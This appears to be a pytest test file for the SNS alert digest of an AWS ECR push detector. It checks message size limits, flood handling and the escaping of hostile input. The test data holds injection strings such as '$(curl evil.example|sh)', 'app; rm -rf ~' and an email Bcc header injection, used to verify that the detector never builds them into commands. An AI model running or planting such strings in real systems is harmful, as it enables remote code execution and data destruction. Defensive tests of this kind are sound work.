"""The SNS message: one per invocation, every alert (principal) in it, under SNS's size limit.

Subject, email text, JSON body and attributes; what a flood of findings, many principals, decoy
repositories, hostile strings and impossible times do to them.
"""

from __future__ import annotations

import json
import re
import shlex
import unicodedata
from datetime import UTC, datetime
from typing import Any

import pyarrow as pa
import pytest

from detector.analysis.findings import Finding
from detector.detection import DETECTION
from detector.report import alerts as alerts_mod
from detector.report import digest
from detector.report.alerts import FIRST_SUCCESS, NEW, NEW_VALUE, Alert, rollup
from detector.report.email import DETAIL_MAX, EMAIL_BUDGET, LIST_MAX
from detector.report.plaintext import VALUE_MAX, WIDTH, _clean
from detector.report.principals import UNKNOWN_PRINCIPAL
from tests import lake
from tests.contract import ALERT_KEYS, JSONL_KEYS, SAMPLE_NAMES
from tests.unit.helpers import parquet_bytes, run_over

ACCOUNT = lake.ACCOUNT
OTHER_ACCOUNT = "444455556666"
CONTRACTOR = f"arn:aws:iam::{ACCOUNT}:user/old-contractor"
SESSION = f"arn:aws:sts::{OTHER_ACCOUNT}:assumed-role/build-role/i-0abc"
ROLE = f"arn:aws:iam::{OTHER_ACCOUNT}:role/build-role"
T0 = 1_714_557_600_000  # 2024-05-01T10:00:00Z
SNS_LIMIT = 262_144
LIMIT = SNS_LIMIT - digest.HEADROOM
UNSAFE = {"Cc", "Cf", "Cs", "Co", "Zl", "Zp"}
ANSI = "\x1b[31mred\x1b[0m\x1b]0;title\x07"
LAST_MINUTE_OF_9999 = int(datetime(9999, 12, 31, 23, 59, 30, tzinfo=UTC).timestamp() * 1000)
YEAR_ONE = int(datetime(1, 1, 1, 0, 0, 30, tzinfo=UTC).timestamp() * 1000)


# --- building findings and alerts ------------------------------------------------------------


def finding(
    user: str | None = CONTRACTOR,
    *,
    account: str | None = ACCOUNT,
    user_agent: str | None = "aws-cli/2.15.0 Python/3.11.6 Linux/6.1 docker/24.0",
    src_ip: str | None = "203.0.113.7",
    src_domain: str | None = None,
    region: str | None = "us-east-1",
    count: int = 5,
    first_ms: int | None = T0,
    last_ms: int | None = T0 + 20 * 60_000,
    succeeded: int = 4,
    failed: int = 1,
    pushed: list[str] | None = None,
    repositories: list[str] | None = None,
    tags: list[str] | None = None,
) -> Finding:
    """A finding built directly (for size tests); ``pushed`` repositories had a success."""
    f = Finding(
        key=("PutImage", user, account, user_agent, src_ip, src_domain, region),
        count=count,
        first_ms=first_ms,
        last_ms=last_ms,
        succeeded=succeeded,
        failed=failed,
    )
    f.repositories.add(["payments-api"] if pushed is None else pushed, priority=True)
    f.repositories.add(["web/frontend"] if repositories is None else repositories)
    f.image_tags.add(["latest", "v1.4.2"] if tags is None else tags)
    f.principal_ids.add(["AIDAEXAMPLEOLDCONTRACTOR"])
    f.event_ids.add(["0b7c3a0e-1111-4a2b-9c1d-2f1e0e6f0a01"])
    return f


def three() -> list[Alert]:
    """An IAM user, a role session and an AWS service: three principals."""
    f2 = finding(SESSION, account=OTHER_ACCOUNT, region="eu-west-1", src_ip="198.51.100.9")
    f2.session_issuers.add([ROLE])
    f3 = finding(
        None,
        user_agent="codebuild.amazonaws.com",
        src_ip=None,
        src_domain="codebuild.amazonaws.com",
        count=2,
        succeeded=2,
        failed=0,
    )
    f3.invoked_by.add(["codebuild.amazonaws.com"])
    return rollup([finding(), f2, f3])


def one(f: Finding) -> Alert:
    [alert] = rollup([f])
    return alert


def user_arn(name: str) -> str:
    return f"arn:aws:iam::{ACCOUNT}:user/{name}"


def by_user(name: str, **overrides: Any) -> dict[str, Any]:
    """A PutImage event by an IAM user (not the default CI role session)."""
    fields: dict[str, Any] = {
        "arn": user_arn(name),
        "principal_id": "AIDAEXAMPLE" + name.upper(),
        "user_type": "IAMUser",
        "session_issuer": None,
        "session_created_ms": None,
    }
    return lake.event(**(fields | overrides))


def repeated(template: dict[str, Any], n: int, **varying: list[Any]) -> dict[str, pa.Array]:
    """``n`` copies of one event as flat columns, some fields varying: fast for thousands."""
    cols: dict[str, pa.Array] = {}
    for name, typ in lake.FIELDS.items():
        if name in varying:
            cols[name] = pa.array(varying[name], type=typ)
        else:
            cols[name] = pa.repeat(pa.scalar(template[name], typ), n)
    return cols


def through_engine(*objects: list[dict[str, Any]] | dict[str, pa.Array]) -> list[Alert]:
    """Alerts of these Security Lake objects (v2), scanned by the real engine, no allowlist."""
    run = run_over((f"obj-{i}.gz.parquet", parquet_bytes(o, 2)) for i, o in enumerate(objects))
    return rollup(run.findings())


# --- reading a message -----------------------------------------------------------------------


def envelope(message: digest.Message) -> dict[str, str]:
    env = json.loads(message.message)
    assert isinstance(env, dict)
    return env


def body(message: digest.Message) -> dict[str, Any]:
    doc = json.loads(envelope(message)["default"])
    assert isinstance(doc, dict)
    return doc


def email(message: digest.Message) -> str:
    return envelope(message)["email"]


def sns_size(message: digest.Message) -> int:
    """Counted here independently of Message.size: body plus attribute names, types, values."""
    return len(message.message.encode("utf-8")) + sum(
        len(k.encode()) + len(v["DataType"].encode()) + len(v["StringValue"].encode())
        for k, v in message.attributes.items()
    )


def escaped_size(text: str) -> int:
    """Bytes ``text`` takes as a JSON string in the (non-ASCII) envelope, quotes excluded."""
    return len(json.dumps(text, ensure_ascii=False).encode()) - 2


def flat(text: str) -> str:
    """The words of ``text``, wrapped values joined back (continuation marks dropped)."""
    return " ".join(re.sub(r"\n *\| ", " ", text).split())


def detailed(text: str) -> list[int]:
    """The numbers of the principals the email describes in detail."""
    return [int(n) for n in re.findall(r"^PRINCIPAL (\d+) OF \d+:", text, re.MULTILINE)]


def assert_safe_text(text: str) -> None:
    bad = [ch for ch in text if ch != "\n" and unicodedata.category(ch) in UNSAFE]
    assert not bad, f"raw control/format characters: {bad[:5]!r}"


def assert_valid_subject(subject: str) -> None:
    assert 0 < len(subject) < 100
    assert all(" " <= ch <= "~" for ch in subject), subject


def assert_adds_up(doc: dict[str, Any], alerts: list[Alert]) -> None:
    """Every alert is in the body, or the ones left out are counted exactly."""
    shown = doc["alerts"]
    omitted = doc.get("omitted", {"alerts": 0, "pushes": 0})
    assert doc["alert_count"] == len(alerts)
    assert doc["finding_count"] == sum(a.groups for a in alerts)
    assert len(shown) + omitted["alerts"] == len(alerts)
    assert sum(r["count"] for r in shown) + omitted["pushes"] == sum(a.count for a in alerts)
    # The ones shown are the first in alert order (pushes first, then the busiest).
    assert [r["alert_id"] for r in shown] == [a.id for a in alerts[: len(shown)]]
    if "omitted" in doc:
        assert omitted["alerts"] > 0 and omitted["why"]


def commands(text: str) -> list[list[str]]:
    """The shell commands in the email, joined across backslash continuations and parsed."""
    out: list[list[str]] = []
    current = ""
    for line in text.splitlines():
        stripped = line.strip()
        if not current and not stripped.startswith("aws "):
            continue
        if stripped.endswith("\\"):
            current += stripped[:-1] + " "
            continue
        out.append(shlex.split(current + stripped))
        current = ""
    return out


def option(cmd: list[str], flag: str) -> str | None:
    return cmd[cmd.index(flag) + 1] if flag in cmd else None


# --- subject ---------------------------------------------------------------------------------


def test_subject_names_the_first_principal_and_counts_the_rest() -> None:
    alerts = three()
    assert digest.subject(alerts) == (
        "[MEDIUM] ECR push by unknown principal: old-contractor (111122223333) (+2 more)"
    )
    assert digest.subject(alerts[:1]) == (
        "[MEDIUM] ECR push by unknown principal: old-contractor (111122223333)"
    )


def test_subject_of_a_role_session_and_of_a_service() -> None:
    by_key = {a.who(): a for a in three()}
    # A role session is alerted as its role: the session name is the caller's choice.
    assert digest.subject([by_key[ROLE]]).endswith(": build-role (444455556666)")
    assert digest.subject([by_key["codebuild.amazonaws.com"]]).endswith(": codebuild.amazonaws.com")
    nobody = one(Finding(key=("PutImage", None, None, None, None, None, None), count=1))
    assert nobody.who() == UNKNOWN_PRINCIPAL
    assert digest.subject([nobody]).endswith(": " + UNKNOWN_PRINCIPAL)
    assert UNKNOWN_PRINCIPAL in digest.email_text([nobody])


@pytest.mark.parametrize(
    "user",
    [
        "arn:aws:iam::1:user/evil\r\nBcc: attacker@example.com",
        f"arn:aws:iam::1:user/{ANSI}",
        "arn:aws:iam::1:user/" + "😀" * 500,
        "x" * 1_000_000,
        "a\x00b\u2028c\u202ed\ufeffe\ud800",
        "\n\t \r",
        "arn:aws:iam::1:user/" + "\u0301" * 200,
    ],
)
def test_subject_is_short_printable_ascii_whatever_the_data(user: str) -> None:
    hostile = one(finding(user))
    many = [hostile] + [one(finding())] * 12_345
    for alerts in ([hostile], many):
        subject = digest.subject(alerts)
        assert_valid_subject(subject)
        assert subject.startswith("[MEDIUM] ECR push by unknown principal: ")
    assert digest.subject(many).endswith("(+12345 more)")


def test_subject_ignores_a_megabyte_user_agent() -> None:
    assert_valid_subject(digest.subject([one(finding(user_agent="A" * 1_000_000))]))


# --- email -----------------------------------------------------------------------------------


def test_email_tells_what_who_where_why_and_what_next() -> None:
    context = {"function": "ecr-upload-detector", "allowlist_parameter": "/ecr/allowlist"}
    text = digest.email_text(three(), context=context)
    words = flat(text)
    assert "Source IPs: (not recorded)" not in words
    assert f"Caller ARNs (sessions) (1): {CONTRACTOR}" not in words  # a user is its own session
    for fact in [
        "12 PutImage call(s) by 3 principal(s)",
        "10 succeeded",
        "3 principal(s) pushed an image: they are listed first.",
        f"Caller account(s): {ACCOUNT}, {OTHER_ACCOUNT}",
        "PRINCIPAL 1 OF 3: IMAGE PUSHED",
        DETECTION.message(CONTRACTOR),
        DETECTION.message(ROLE),
        DETECTION.message("codebuild.amazonaws.com"),
        f"Principal: {CONTRACTOR}",
        f"Principal: {ROLE}",
        f"Account: {ACCOUNT}",
        f"Account: {OTHER_ACCOUNT}",
        f"Caller ARNs (sessions) (1): {SESSION}",
        "Source IPs (1): 203.0.113.7",
        "Source domains (1): codebuild.amazonaws.com",  # the service called from no IP
        "Regions (1): us-east-1",
        "Regions (1): eu-west-1",
        "User agents (1): aws-cli/2.15.0 Python/3.11.6 Linux/6.1 docker/24.0",
        "User agents (1): codebuild.amazonaws.com",
        "Repositories pushed to (1): payments-api",
        "Repositories (all calls) (2): payments-api, web/frontend",
        "Image tags (2): latest, v1.4.2",
        "PutImage calls: 5 (4 succeeded, 1 failed)",
        "PutImage calls: 2 (2 succeeded, 0 failed)",
        "First seen: 2024-05-01 10:00:00 UTC",
        "Last seen: 2024-05-01 10:20:00 UTC",
        "Sample event ids (1): 0b7c3a0e-1111-4a2b-9c1d-2f1e0e6f0a01",
        "T1204.003",
        flat(DETECTION.description),
        flat(DETECTION.how_to_respond),
        "function: ecr-upload-detector",
        "allowlist_parameter: /ecr/allowlist",
        *DETECTION.references,
    ]:
        assert fact in words, fact
    assert "no image was written" not in text
    cmds = commands(text)
    describe = [c for c in cmds if c[:3] == ["aws", "ecr", "describe-images"]]
    assert [option(c, "--repository-name") for c in describe] == [
        "payments-api",
        "web/frontend",
        "payments-api",
        "web/frontend",
        "payments-api",
        "web/frontend",
    ]
    assert option(describe[0], "--region") == "us-east-1"
    lookup = [c for c in cmds if c[:3] == ["aws", "cloudtrail", "lookup-events"]]
    assert len(lookup) == 3
    assert option(lookup[0], "--start-time") == "2024-05-01T09:59:00Z"
    assert option(lookup[0], "--end-time") == "2024-05-01T10:21:00Z"
    ssm = [c for c in cmds if c[:2] == ["aws", "ssm"]]
    assert [option(c, "--name") for c in ssm] == ["/ecr/allowlist", "/ecr/allowlist"]
    # The allowlist entry suggested for each principal: the role, not the session.
    lines = text.splitlines()
    entries = [
        lines[i + 1].strip() for i, ln in enumerate(lines) if "add to the allowlist (see end)" in ln
    ]
    assert entries == [CONTRACTOR, ROLE, "codebuild.amazonaws.com"]
    assert_safe_text(text)


def test_email_lines_are_phone_width() -> None:
    text = digest.email_text(three())
    for line in text.splitlines():
        # A single long token (an ARN, a command option) is kept whole so it can be copied.
        assert len(line) <= 76 or " " not in line.strip(), line


@pytest.mark.parametrize(
    "hostile",
    [
        ANSI,
        "line one\nX-Injected: yes\r\n\tmore",
        "😀" * 1000,
        "\u202etxt.exe\u2066\u2069\u200b\ufeff\u2028\u2029\x85",
        "\ud800 lone surrogate",
        "U" * 1_000_000,
        " " * 5000 + "padding pushes text onto its own line",
    ],
)
def test_email_escapes_and_caps_hostile_values(hostile: str) -> None:
    f = finding(
        f"arn:aws:iam::{ACCOUNT}:user/{hostile}",
        user_agent=hostile,
        region=hostile,
        pushed=[hostile],
        repositories=[hostile, "ok-repo"],
        tags=[hostile],
    )
    text = digest.email_text([one(f)], context={hostile: hostile})
    assert_safe_text(text)
    assert len(text) < 40_000  # a megabyte of user agent does not make a megabyte email
    for line in text.splitlines():
        assert len(line) <= 400, line[:80]
        assert line == line.rstrip()
    if "\x1b" in hostile:
        assert "\\x1b[31mred" in text
    if "\n" in hostile:
        assert not any(ln.lstrip().startswith("X-Injected") for ln in text.splitlines())
    text.encode("utf-8")  # no lone surrogate left


def test_email_never_puts_a_hostile_repository_name_into_a_command() -> None:
    hostile = ["app; rm -rf ~", "$(curl evil.example|sh)", "`id`", "x' || reboot #"]
    text = digest.email_text([one(finding(pushed=[], repositories=[*hostile, "good/repo"]))])
    describe = [c for c in commands(text) if c[:3] == ["aws", "ecr", "describe-images"]]
    assert [option(c, "--repository-name") for c in describe] == ["good/repo"]
    lines = [ln for ln in text.splitlines() if "--repository-name" in ln]
    assert lines == ["      --repository-name good/repo \\"]
    assert "rm -rf" in text  # still reported, as data
    only_bad = digest.email_text([one(finding(pushed=[], repositories=hostile))])
    assert "--repository-name" not in only_bad
    assert "not valid ECR names" in flat(only_bad)
    bad_region = one(finding(region="us-east-1; reboot", repositories=["app"]))
    assert "--region" not in digest.email_text([bad_region])


def test_a_huge_name_of_the_right_shape_is_not_made_into_a_command() -> None:
    """A repository or region name can match the ECR pattern and still be 100 KB long: it
    must not be copied whole into a command (the email would pass its budget and the message
    could not be built at all)."""
    repos = ["a" * 100_000, "b/" * 50_000 + "c", "d" * 100_000]
    alert = one(finding(pushed=repos, repositories=[], region="us-" + "x" * 100_000 + "-1"))
    text = digest.email_text([alert])
    assert escaped_size(text) < 40_000
    for cmd in commands(text):
        assert "--repository-name" not in cmd and "--region" not in cmd
        assert all(len(word) <= 256 for word in cmd)
    message = digest.message([alert])
    assert sns_size(message) <= LIMIT
    assert body(message)["alerts"][0]["succeeded_repositories"]["total"] == 3


def test_the_command_window_is_padded_and_valid() -> None:
    alert = one(finding(first_ms=T0 + 59_999, last_ms=T0 + 60_001))
    [lookup] = [c for c in commands(digest.email_text([alert])) if "lookup-events" in c]
    assert option(lookup, "--start-time") == "2024-05-01T09:59:59Z"
    assert option(lookup, "--end-time") == "2024-05-01T10:02:00Z"
    assert option(lookup, "--lookup-attributes") == (
        "AttributeKey=EventName,AttributeValue=PutImage"
    )


# --- data cannot pass for the email's own text -----------------------------------------------

# Lines of the email's own that a hostile value would like to fake, and how our lines start.
FORGED = [
    "PutImage calls: 0 (0 succeeded, 5 failed)",
    "No push succeeded, so no image was written; the credentials still reached ECR.",
    "Who",
    "From where",
    "-" * 40,
    "PRINCIPAL 2 OF 2: PUSH ATTEMPTED",
    "Check next",
    "- If the push was expected, add to the allowlist (see end):",
]
OWN_STARTS = (
    "Who",
    "From where",
    "What",
    "Evidence",
    "Check next",
    "PRINCIPAL",
    "---",
    "===",
    "PutImage calls:",
    "No push",
    "First seen:",
    "Last seen:",
    "Principal:",
    "Account:",
    "Caller",
    "Source IPs",
    "Regions",
    "User agents",
    "Repositories",
    "Image tags",
    "Sample event ids",
    "Container uploaded",
    "- ",
    "Why it matters",
    "How to respond",
    "How to allowlist",
    "Known false positives",
    "References",
    "Run",
    "Severity",
)
# Blank characters to pad with: every one renders as empty space.
PADS = [" ", "\t", "\u00a0", "\u2003", "\u205f", "\u3000", " \u00a0\t"]


def skeleton(text: str) -> list[str]:
    """Which of the email's own line starts each line has, in order (data lines have none)."""
    out = []
    for line in text.splitlines():
        head = line.strip()
        out += [s for s in OWN_STARTS if head.startswith(s)][:1]
    return out


def email_with(field: str, value: str) -> str:
    """The email of one alert with ``value`` in one data field (the rest ordinary)."""
    if field == "user":
        return digest.email_text([one(finding(f"arn:aws:iam::{ACCOUNT}:user/{value}"))])
    if field == "context":
        return digest.email_text([one(finding())], context={"period": value})
    overrides: dict[str, Any] = {
        "user_agent": {"user_agent": value},
        "src_ip": {"src_ip": value},
        "region": {"region": value},
        "repositories": {"repositories": [value, "ok-repo"]},
        "tags": {"tags": [value]},
    }[field]
    return digest.email_text([one(finding(**overrides))])


@pytest.mark.parametrize(
    "field", ["user_agent", "user", "src_ip", "region", "repositories", "tags", "context"]
)
def test_a_padded_value_cannot_render_as_a_line_of_the_email(field: str) -> None:
    """A value padded to word-wrap exactly into "PutImage calls: 0 (...)", "Who", a "----"
    rule...: whatever the padding and wherever the wrap falls, the email has the same lines of
    its own, in the same order, as with an ordinary value; the forged text is only ever on
    marked continuation lines."""
    base = skeleton(email_with(field, "ordinary-value"))
    assert base.count("PutImage calls:") == 1 and "Who" in base
    for forged in zip(FORGED[::2], FORGED[1::2], strict=True):  # two a value: it is cut at 200
        for pad in PADS:
            for fill in range(0, 72, 4):  # moves the wrap point across the whole line
                value = "x" * fill + "".join(pad * 70 + line for line in forged) + pad * 70
                text = email_with(field, value)
                assert skeleton(text) == base, (field, forged, repr(pad), fill)
                for line in text.splitlines():
                    assert not any(line.lstrip().startswith(f) for f in FORGED[:2]), line


def test_continuation_lines_of_a_wrapped_value_are_marked() -> None:
    landed = 0
    for fill in range(70):
        agent = "Mozilla/5.0 (X11; Linux x86_64) " * 3 + "x" * fill + " PutImage calls: 0"
        lines = email_with("user_agent", agent).splitlines()
        start = lines.index("From where") + 3
        assert lines[start].startswith("  User agents (1): Mozilla")
        end = lines.index("What")
        assert end - start >= 2  # wrapped, each continuation line marked
        assert all(ln.startswith("    | ") for ln in lines[start + 1 : end])
        # Phone width, but a word is never split (one longer than a line stands alone).
        assert all(len(ln) <= WIDTH or " " not in ln[6:] for ln in lines[start:end])
        assert flat("\n".join(lines[start:end])) == f"User agents (1): {' '.join(agent.split())}"
        landed += "    | PutImage calls: 0" in lines
    assert landed  # the forged text did start a line, and it is marked
    # The value is data however it wraps: the message line and the list of sessions too.
    arn = f"arn:aws:iam::{ACCOUNT}:user/old-contractor"
    short = digest.email_text([one(finding())]).splitlines()
    assert short[short.index("Container uploaded from unknown user") + 1] == f"  | {arn}"


def test_blank_space_in_data_collapses_and_line_breaks_stay_escaped() -> None:
    """Every Unicode whitespace character: blanks (tab, NBSP, U+3000, ...) become one space;
    line and record separators are shown escaped, never break the line."""
    blanks = 0
    for c in range(0x110000):
        ch = chr(c)
        if not ch.isspace():
            continue
        lines = email_with("user_agent", f"a{ch * 3}b").splitlines()
        [line] = [ln for ln in lines if ln.startswith("  User agents (1): ")]
        if ch == "\t" or unicodedata.category(ch) == "Zs":
            blanks += 1
            assert line == "  User agents (1): a b", f"U+{c:04X}"
        else:
            escaped = ch.encode("unicode_escape").decode()
            assert line == f"  User agents (1): a{escaped * 3}b", f"U+{c:04X}"
    assert blanks == 18  # tab and the 17 space separators (Zs) of Unicode 14/15


def test_a_value_cut_after_collapsing_still_says_it_was_cut() -> None:
    """A megabyte of spaces before the text: what is left after collapsing is short, but the
    value was cut, and the email says so."""
    lines = email_with("user_agent", " " * 1_000_000 + "hidden-tail").splitlines()
    [line] = [ln for ln in lines if ln.startswith("  User agents (1):")]
    assert line.endswith("…") and "hidden-tail" not in line


# --- outcomes (through the engine) -----------------------------------------------------------


def test_no_image_was_written_only_when_every_call_is_known_failed() -> None:
    [failed] = through_engine([by_user("f", status="Failure"), by_user("f", status="Failure")])
    assert (failed.count, failed.succeeded, failed.failed) == (2, 0, 2)
    text = flat(digest.email_text([failed]))
    assert "PRINCIPAL 1 OF 1: PUSH ATTEMPTED" in text
    assert "PutImage calls: 2 (0 succeeded, 2 failed)" in text
    assert "no image was written" in text

    [unknown] = through_engine([by_user("u", status="Failure"), by_user("u", status=None)])
    assert (unknown.count, unknown.succeeded, unknown.failed) == (2, 0, 1)
    text = flat(digest.email_text([unknown]))
    assert "PutImage calls: 2 (0 succeeded, 1 failed, 1 without a recorded status)" in text
    assert "no image was written" not in text
    assert "No push is known to have succeeded" in text

    [missing] = through_engine([by_user("m", status=None)])
    assert "no image was written" not in digest.email_text([missing])

    [pushed] = through_engine([by_user("p", status="Failure"), by_user("p")])
    text = flat(digest.email_text([pushed]))
    assert "PRINCIPAL 1 OF 1: IMAGE PUSHED" in text
    assert "no image was written" not in text and "No push" not in text


@pytest.mark.parametrize("distinct_agents", [False, True])
def test_decoy_repositories_do_not_hide_the_successful_push(distinct_agents: bool) -> None:
    """60 failed pushes to decoys, then one success to prod/payments-api, by the same caller."""
    decoys = [
        by_user(
            "mallory",
            status="Failure",
            request_json=lake.put_image_request(f"decoy-{i:02d}", "latest"),
            user_agent=f"docker/{i}" if distinct_agents else "docker/24",
            time_ms=lake.T0_MS + i,
        )
        for i in range(60)
    ]
    real = by_user(
        "mallory",
        request_json=lake.put_image_request("prod/payments-api", "v9"),
        user_agent="docker/60" if distinct_agents else "docker/24",
        time_ms=lake.T0_MS + 60,
    )
    [alert] = through_engine([*decoys, real])
    assert (alert.count, alert.succeeded, alert.failed) == (61, 1, 60)
    assert alert.groups == (61 if distinct_agents else 1)

    message = digest.message([alert])
    text = email(message)
    words = flat(text)
    assert "Repositories pushed to (1): prod/payments-api" in words
    assert re.search(r"Repositories \(all calls\) \(\d+\+?\): prod/payments-api, decoy-", words)
    assert re.search(r"Image tags \(\d+\+?\): v9, latest", words)
    describe = [c for c in commands(text) if c[:3] == ["aws", "ecr", "describe-images"]]
    assert option(describe[0], "--repository-name") == "prod/payments-api"

    [rec] = body(message)["alerts"]
    assert rec["repositories"]["values"][0] == "prod/payments-api"
    assert rec["image_tags"]["values"][0] == "v9"
    assert rec["succeeded_repositories"] == {"values": ["prod/payments-api"], "total": 1}
    assert rec["truncated"]["repositories"] is True  # 61 names, fewer shown
    assert rec["succeeded"] == 1 and rec["failed"] == 60
    # The finding with the success comes first among the findings shown.
    assert rec["findings"]["values"][0]["succeeded"] == 1


@pytest.mark.parametrize(
    ("times", "shown"),
    [
        ([LAST_MINUTE_OF_9999], "9999-12-31 23:59:30 UTC"),
        ([2**62], f"(out of range: {2**62} ms since 1970)"),
        ([-(2**62)], f"(out of range: {-(2**62)} ms since 1970)"),
        ([T0, 2**62], f"(out of range: {2**62} ms since 1970)"),
        ([YEAR_ONE], "00:00:30 UTC"),
    ],
)
def test_impossible_times_render_without_a_bad_command(times: list[int], shown: str) -> None:
    [alert] = through_engine([by_user("t", time_ms=ms) for ms in times])
    assert (alert.first_ms, alert.last_ms) == (min(times), max(times))
    message = digest.message([alert])
    text = email(message)
    assert shown in text
    # The window would start or end outside what a date can hold: no command at all.
    assert "lookup-events" not in text
    assert "--start-time" not in text
    rec = body(message)["alerts"][0]
    assert (rec["first_ms"], rec["last_ms"]) == (min(times), max(times))
    if max(times) == 2**62:
        assert rec["lastTime"] is None


def test_a_normal_time_has_a_command() -> None:
    [alert] = through_engine([by_user("t")])
    assert "aws cloudtrail lookup-events" in digest.email_text([alert])


def test_empty_message_is_a_mistake() -> None:
    with pytest.raises(ValueError):
        digest.email_text([])
    with pytest.raises(ValueError):
        digest.subject([])
    with pytest.raises(ValueError):
        digest.message([])


# --- why an alert is (again) in a message ----------------------------------------------------


@pytest.mark.parametrize(
    ("reason", "line", "shown"),
    [
        (FIRST_SUCCESS, "the first successful push after failed ones", "first_success"),
        (NEW_VALUE, "a successful push to a repository not reported before", "new_repository"),
    ],
)
def test_escalation_reasons_are_explained(reason: str, line: str, shown: str) -> None:
    [alert] = through_engine([by_user("r")])
    assert alert.reason == NEW
    text = flat(digest.email_text([alert]))
    assert "Again within the alert window" not in text

    alert.reason = reason
    message = digest.message([alert])
    text = flat(email(message))
    assert f"Again within the alert window: {line}." in text
    # Explained in the principal's own section, after its headline.
    assert text.index(DETECTION.message(user_arn("r"))) < text.index(line)
    # A new value is named in the detection's words in JSON (as before detections were specs).
    assert body(message)["alerts"][0]["reason"] == shown


# --- floods: one message whatever the data -----------------------------------------------------


def test_a_user_agent_flood_is_one_alert_in_one_message() -> None:
    """3,000 failed pushes, each with its own user agent (3,000 Splunk groups), and one
    successful push by someone else: two principals, one message, the push first."""
    n = 3000
    spray = repeated(
        by_user("spray", status="Failure"),
        n,
        user_agent=[f"Mozilla/5.0 (spray {i}) " + "x" * 40 for i in range(n)],
        event_uid=[f"evt-spray-{i}" for i in range(n)],
        time_ms=[lake.T0_MS + i for i in range(n)],
    )
    intruder_session = f"arn:aws:sts::{ACCOUNT}:assumed-role/intruder/sess-1"
    intruder_role = f"arn:aws:iam::{ACCOUNT}:role/intruder"
    intruder = lake.event(
        arn=intruder_session,
        session_issuer=None,
        request_json=lake.put_image_request("prod/api", "v2"),
        time_ms=lake.T0_MS + 5,
    )
    alerts = through_engine(spray, [intruder])
    assert [a.who() for a in alerts] == [intruder_role, user_arn("spray")]
    assert alerts[1].groups == n and alerts[1].count == n

    message = digest.message(alerts)
    assert isinstance(message, digest.Message)  # one message, not a list of parts
    assert sns_size(message) <= LIMIT
    assert message.size <= LIMIT
    assert message.alert_count == 2 and message.alerts_in_body == 2
    assert_valid_subject(message.subject)
    assert message.subject.endswith(": intruder (111122223333) (+1 more)")

    text = email(message)
    assert escaped_size(text) <= EMAIL_BUDGET
    assert detailed(text) == [1, 2]
    words = flat(text)
    assert words.index(f"Principal: {intruder_role}") < words.index(
        f"Principal: {user_arn('spray')}"
    )
    assert "PRINCIPAL 1 OF 2: IMAGE PUSHED" in words
    assert "PRINCIPAL 2 OF 2: PUSH ATTEMPTED" in words
    assert f"{n + 1} PutImage call(s) by 2 principal(s)" in words
    combos = f"from {n} caller/agent/source combinations"
    assert f"PutImage calls: {n} (0 succeeded, {n} failed) {combos}" in words
    assert f"User agents ({n}):" in words
    assert f"(+{n - LIST_MAX} more)" in words
    assert "more principal(s)" not in words  # both in detail

    doc = body(message)
    assert_adds_up(doc, alerts)
    assert "omitted" not in doc
    assert doc["alert_count"] == 2 and doc["finding_count"] == n + 1
    first, second = doc["alerts"]
    assert first["principal"] == intruder_role and first["succeeded"] == 1
    assert first["sessions"]["values"] == [intruder_session]
    assert second["count"] == n and second["groups"] == n and second["failed"] == n
    assert second["user_agents"]["total"] == n
    assert second["findings"]["total"] == n
    assert second["truncated"]["findings"] is True
    assert second["truncated"]["user_agents"] is True
    assert message.attributes["finding_count"]["StringValue"] == str(n + 1)
    assert message.attributes["alert_count"]["StringValue"] == "2"
    assert message.attributes["pushed"]["StringValue"] == "true"


HOSTILE = '\x1b[31m😀\u202e\ud800"\\\u2028<script>' * 40


def many_principals(n: int) -> list[Finding]:
    """``n`` principals with long hostile values; only the last one pushed successfully."""
    out = []
    for i in range(n):
        ok = i == n - 1
        out.append(
            finding(
                f"arn:aws:iam::{ACCOUNT}:user/p{i:05d}{HOSTILE}",
                user_agent=f"{HOSTILE}{i}",
                src_ip=f"{HOSTILE}{i}",
                region=f"{HOSTILE}{i % 7}",
                count=1 + i % 5,
                succeeded=1 if ok else 0,
                failed=0 if ok else 1 + i % 5,
                pushed=[f"pushed-{i}{HOSTILE}"] if ok else [],
                repositories=[f"r{j}{HOSTILE}" for j in range(8)],
                tags=[f"t{j}{HOSTILE}" for j in range(8)],
            )
        )
    return out


@pytest.mark.parametrize("n", [300, 3000])
def test_many_hostile_principals_still_make_one_message(n: int) -> None:
    alerts = rollup(many_principals(n))
    assert len(alerts) == n
    pushed = f"arn:aws:iam::{ACCOUNT}:user/p{n - 1:05d}"
    assert alerts[0].who().startswith(pushed)

    message = digest.message(alerts, context={"function": "detector"})
    assert sns_size(message) <= LIMIT
    message.message.encode("utf-8")
    assert_valid_subject(message.subject)
    assert message.subject.endswith(f"(+{n - 1} more)")

    text = email(message)
    assert escaped_size(text) <= EMAIL_BUDGET
    assert_safe_text(text)
    numbers = detailed(text)
    shown = len(numbers)
    assert numbers == list(range(1, shown + 1)) and 1 <= shown <= DETAIL_MAX
    rest = alerts[shown:]
    assert (
        f"And {len(rest)} more principal(s) ({sum(a.count for a in rest)} PutImage call(s))."
        in flat(text)
    )
    assert "PRINCIPAL 1 OF" in text and "IMAGE PUSHED" in text.split("PRINCIPAL 2 OF")[0]
    words = flat(text)
    assert words.index("Principal: " + pushed) < words.index(f"And {len(rest)} more principal")
    assert "logs of detector" in flat(text)

    doc = body(message)
    assert_adds_up(doc, alerts)
    assert doc["alerts"][0]["principal"].startswith(pushed)
    assert doc["alerts"][0]["succeeded_repositories"]["total"] == 1
    assert doc["context"] == {"function": "detector"}
    if n == 3000:
        assert doc["omitted"]["alerts"] > 0  # 3,000 alerts cannot all fit, even minimal
    for rec in doc["alerts"]:
        assert list(rec)[: len(ALERT_KEYS)] == ALERT_KEYS
    attrs = message.attributes
    assert attrs["alert_count"]["StringValue"] == str(n)
    assert len(json.loads(attrs["regions"]["StringValue"])) == 7


@pytest.mark.parametrize("char", ["😀", "\x1b", "\\", "\u202e", "a b "])
def test_huge_values_cannot_push_the_email_over_its_budget(char: str) -> None:
    """30 principals, every list full of 2,000-character values: the email shrinks (fewer
    principals in detail, shorter lists and values) and stays within EMAIL_BUDGET."""
    big = char * (2000 // len(char))
    values = [f"{j}{big}" for j in range(50)]  # shared: a few MB, not a few hundred
    findings = []
    for p in range(30):
        for u in range(6):
            findings.append(
                finding(
                    f"arn:aws:iam::{ACCOUNT}:user/{p}{big}",
                    user_agent=f"{u}{big}",
                    src_ip=f"{u}{big}",
                    region=f"{u}{big}",
                    pushed=values,
                    repositories=[],
                    tags=values,
                )
            )
    alerts = rollup(findings)
    assert len(alerts) == 30
    context = {"function": big, "request_id": big}
    text = digest.email_text(alerts, context=context)
    assert escaped_size(text) <= EMAIL_BUDGET
